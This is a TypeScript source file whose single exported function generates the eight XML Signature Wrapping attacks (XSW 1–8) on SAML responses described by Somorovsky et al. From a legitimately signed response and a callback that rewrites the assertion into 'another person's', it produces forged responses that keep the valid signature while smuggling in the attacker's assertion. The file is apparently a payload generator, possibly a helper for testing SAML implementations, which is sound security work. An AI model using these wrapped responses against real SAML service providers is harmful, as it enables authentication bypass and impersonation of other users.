/**
 * The eight ways of Somorovsky et al. ("On Breaking SAML", USENIX Security 2012) to keep a valid
 * signature in a response and have something else believed.
 * @param signed a response whose assertion is signed
 * @param signedWhole the same, with the response signed too
 * @param evil turns an assertion into another person's
 */
export function wrappings(
  signed: string,
  signedWhole: string,
  evil: (assertion: string) => string,
): Record<string, string> {
  const assertion = part(signed, /<saml:Assertion .*<\/saml:Assertion>/s);
  const signature = part(assertion, /<ds:Signature .*<\/ds:Signature>/s);
  const bare = assertion.replace(signature, '');
  const bad = evil(bare);
  const inResponse = (content: string) => signed.replace(assertion, () => content);
  const withIn = (outer: string, content: string) =>
    outer.replace('</saml:Issuer>', () => `</saml:Issuer>${content}`);
  const into = (element: string, content: string) =>
    element.replace('</ds:Signature>', () => `${content}</ds:Signature>`);

  const ofWhole = part(signedWhole, /<ds:Signature .*?<\/ds:Signature>/s);
  const bareWhole = signedWhole.replace(ofWhole, '');
  const badWhole = evil(bareWhole);
  return {
    'XSW 1': withIn(badWhole, into(ofWhole, bareWhole)),
    'XSW 2': withIn(badWhole, bareWhole + ofWhole),
    'XSW 3': inResponse(bad + assertion),
    'XSW 4': inResponse(bad.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`)),
    'XSW 5': inResponse(withIn(bad, signature) + bare),
    'XSW 6': inResponse(withIn(bad, into(signature, bare))),
    'XSW 7': inResponse(`<samlp:Extensions>${bad}</samlp:Extensions>${assertion}`),
    'XSW 8': inResponse(withIn(bad, into(signature, `<ds:Object>${bare}</ds:Object>`))),
  };
}

function part(xml: string, pattern: RegExp): string {
  const [found] = pattern.exec(xml) ?? [];
  if (!found) throw new Error(`no ${pattern} in ${xml}`);
  return found;
}
